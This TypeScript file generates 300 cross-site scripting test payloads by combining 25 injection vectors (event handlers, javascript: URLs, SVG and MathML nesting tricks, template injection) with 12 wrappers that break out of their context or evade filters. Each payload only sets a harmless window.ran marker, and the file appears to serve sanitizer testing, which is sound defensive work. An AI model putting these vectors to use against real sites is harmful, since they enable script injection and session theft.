/** Code by which a payload records that it ran: without quotes and spaces, so that it fits anywhere. */
const mark = (nth: number) => `window.ran=${nth}`

/** Ways to make a text run the given code as a script. */
const ways: readonly ((code: string) => string)[] = [
  (code) => `<script>${code}</script>`,
  (code) => `<img src=x onerror=${code}>`,
  (code) => `<svg onload=${code}></svg>`,
  (code) => `<svg><script>${code}</script></svg>`,
  (code) => `<svg><textarea><img src=x onerror=${code}></textarea></svg>`,
  (code) => `<svg><style><img src=x onerror=${code}></style></svg>`,
  (code) => `<math><mtext><table><mglyph><style><img src=x onerror=${code}></style></table></mtext></math>`,
  (code) => `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
  (code) => `<iframe src="javascript:parent.${code}"></iframe>`,
  (code) => `<a href="javascript:${code}" autofocus onfocus=${code}>a link</a>`,
  (code) => `<details open ontoggle=${code}>more</details>`,
  (code) => `<video><source onerror=${code}></video>`,
  (code) => `<input autofocus onfocus=${code}>`,
  (code) => `<form action="javascript:${code}"><button autofocus onfocus=${code}>send</button></form>`,
  (code) => `<object data="javascript:${code}"></object><embed src="javascript:${code}">`,
  (code) => `<noscript><p title="</noscript><img src=x onerror=${code}>"></p></noscript>`,
  (code) => `<xmp><p title="</xmp><img src=x onerror=${code}>"></xmp>`,
  (code) => `<template><img src=x onerror=${code}></template>`,
  (code) => `<meta http-equiv="refresh" content="0;url=javascript:${code}">`,
  (code) => `<base href="javascript:/"><link rel=stylesheet href="data:text/css,*{}" onload=${code}>`,
  (code) => `<p style="animation-name:x" onanimationstart=${code}>moves</p>`,
  (code) => `<select><option><img src=x onerror=${code}></option></select>`,
  (code) => `<!--><img src=x onerror=${code}>-->`,
  (code) => `{{constructor.constructor('${code}')()}}\${${code}}`,
  (code) => `javascript:${code}`,
]

/** Surroundings by which a payload breaks out of its place. */
const places: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `">${payload}`,
  (payload) => `'>${payload}`,
  (payload) => `</title></style></textarea></script>${payload}`,
  (payload) => `<p>good <b>${payload}`,
  (payload) => payload.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (payload) => payload.replaceAll('javascript:', 'java&#9;script&colon;').replaceAll(' on', '\n/on'),
  (payload) => payload.replace(/<(\w+)/g, (_, name: string) => `<${name.toUpperCase()}/x `),
  (payload) => payload.replaceAll('<', '<\u0000').concat(payload),
  (payload) => `\\u003c/script\\u003e</script>${payload}`,
  (payload) => `]]>${payload}<![CDATA[`,
  (payload) => `" onmouseover="${/window\.ran=\d+/.exec(payload)?.[0] ?? ''}" x="${payload}`,
]

/** 300 payloads, each with the number that identifies it. */
export const payloads: readonly string[] = ways.flatMap((way, first) =>
  places.map((place, second) => place(way(mark(first * places.length + second)))),
)
